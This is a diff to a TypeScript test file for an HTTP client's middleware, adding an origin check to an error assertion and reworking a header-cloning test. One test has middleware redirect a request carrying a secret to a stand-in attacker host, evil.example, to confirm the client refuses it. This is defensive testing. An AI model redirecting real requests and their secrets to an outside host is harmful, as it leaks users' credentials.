@@ -65,6 +65,7 @@ test("a Request to another origin is refused: the secret would travel", async ()
   client.use({ onRequest: ({ request }) => new Request("https://evil.example/v1/user/contact", request) });
   const error = await failure(client.setContact(BODY));
   expect(error).toMatchObject({ kind: "configuration", option: "middleware", outcome: "not_sent", attempts: 0 });
+  expect(error.message).toMatch(/origin/);
   expect(emulator.requests).toHaveLength(0);
 });
 
@@ -168,7 +169,9 @@ test("eject, and middleware of one call", async () => {
 
 test("middleware of one call, with none registered", async () => {
   const { client, emulator } = setUp();
-  const middleware = [{ onRequest: ({ request }: { request: Request }) => request.headers.set("x-a", "b") }];
+  const onRequest = ({ request }: { request: Request }) => request.clone().headers.set("x-a", "lost");
+  const set = ({ request }: { request: Request }) => request.headers.set("x-a", "b");
+  const middleware = [{ onRequest }, { onRequest: set }];
   await client.POST("/v1/user/contact", { body: BODY, middleware });
   expect(emulator.requests[0]).toMatchObject({ body: SENT, headers: { "x-a": "b" } });
 });
